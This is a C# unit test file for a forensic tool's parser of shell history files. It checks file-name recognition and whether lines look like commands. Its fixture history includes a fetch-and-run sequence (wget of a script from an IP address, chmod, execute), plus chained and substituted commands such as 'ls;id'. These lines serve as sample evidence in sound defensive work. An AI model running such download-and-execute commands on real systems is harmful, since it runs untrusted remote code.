using System.Text;
using Ashiato.Core;
using Ashiato.Input.Formats;
using Ashiato.Input.Formats.Shell;
using Ashiato.Tests.Input.Formats.LoginRecords;

namespace Ashiato.Tests.Input.Formats.Shell;

/// <summary>A history without times needs both: a name that says so, and lines that look like commands.</summary>
public sealed class PlainHistoryTests
{
    private const string Commands = "ls -la\ncd /tmp\nwget http://203.0.113.9/x.sh\nchmod +x x.sh\n./x.sh\n";

    private const string Prose =
        """
        Minutes of the meeting
        the quick brown fox jumps over the lazy dog
        it was a dark and stormy night
        Nothing was decided, and everybody went home.
        1. buy milk
        name;street;town
        alice;1 Long Road;Springfield
        """;

    [Theory]
    [InlineData("/home/alice/.bash_history", true)]
    [InlineData(".ash_history", true)]
    [InlineData("/home/alice/.sh_history", true)]
    [InlineData("evidence/root_bash_history.txt", true)]
    [InlineData("/home/alice/.local/share/fish/fish_history", false)]
    [InlineData("/home/alice/.mysql_history", false)]
    [InlineData("/home/.bash_history/notes", false)]
    [InlineData("history.log", false)]
    public void The_name_says_it(string path, bool isNamed)
    {
        Assert.Equal(isNamed, PlainHistoryFormat.IsNamed(path));
        Assert.Equal(isNamed ? 5 : 0, Count(Commands, new RecordOrigin(path)));
        Assert.Equal(isNamed ? 5 : 0, Count(Commands, new RecordOrigin("evidence.tar", path)));
    }

    [Fact]
    public void Prose_under_that_name_is_no_history() => Assert.Equal(0, Count(Prose, new RecordOrigin(".bash_history")));

    [Fact]
    public void Prose_among_commands_is_taken_in_small_numbers_only()
    {
        var prose = string.Concat(Enumerable.Repeat("it was a dark and stormy night\n", 1000));
        Assert.InRange(Count(Commands + prose, new RecordOrigin(".bash_history")), 5, 15);
    }

    [Fact]
    public void Bytes_that_nobody_typed_are_no_history()
    {
        var bytes = new byte[100_000];
        new Random(3).NextBytes(bytes);
        Assert.InRange(Count(Encoding.Latin1.GetString(bytes), new RecordOrigin(".bash_history")), 0, 3);
    }

    [Theory]
    [InlineData("ls", CommandLikeness.Clear)]
    [InlineData("A=1", CommandLikeness.Clear)]
    [InlineData("A='x y' B=$(id) make", CommandLikeness.Clear)]
    [InlineData("A=\"never closed", CommandLikeness.Clear)]
    [InlineData("myscript --now", CommandLikeness.Clear)]
    [InlineData("myscript < list", CommandLikeness.Clear)]
    [InlineData("~/bin/x", CommandLikeness.Clear)]
    [InlineData("ls;id", CommandLikeness.Clear)]
    [InlineData("sudo\tid", CommandLikeness.Clear)]
    [InlineData("myscript now", CommandLikeness.Possible)]
    [InlineData("# note", CommandLikeness.Possible)]
    [InlineData("My script --now", CommandLikeness.None)]
    [InlineData("it was, as they say", CommandLikeness.None)]
    [InlineData("it ended.", CommandLikeness.None)]
    [InlineData("ls \u001b[31m", CommandLikeness.None)]
    [InlineData("12345", CommandLikeness.None)]
    [InlineData("!", CommandLikeness.Possible)]
    [InlineData("=", CommandLikeness.None)]
    [InlineData("ログを確認する", CommandLikeness.None)]
    public void A_command_is_told_by_its_looks(string line, object likeness) => Assert.Equal((CommandLikeness)likeness, CommandLook.Of(Encoding.UTF8.GetBytes(line)));

    private static int Count(string text, RecordOrigin origin)
    {
        var sink = new Slots.Collected();
        var context = new ReadContext { Zone = TimeZoneInfo.Utc, Problems = sink, Origin = origin, Now = new DateTimeOffset(2026, 3, 31, 0, 0, 0, TimeSpan.Zero) };
        new LogReader().ReadText(new MemoryStream(Encoding.Latin1.GetBytes(text)), sink, context);
        return sink.Records.Count(r => r.Dataset.Value == "shell.history");
    }
}
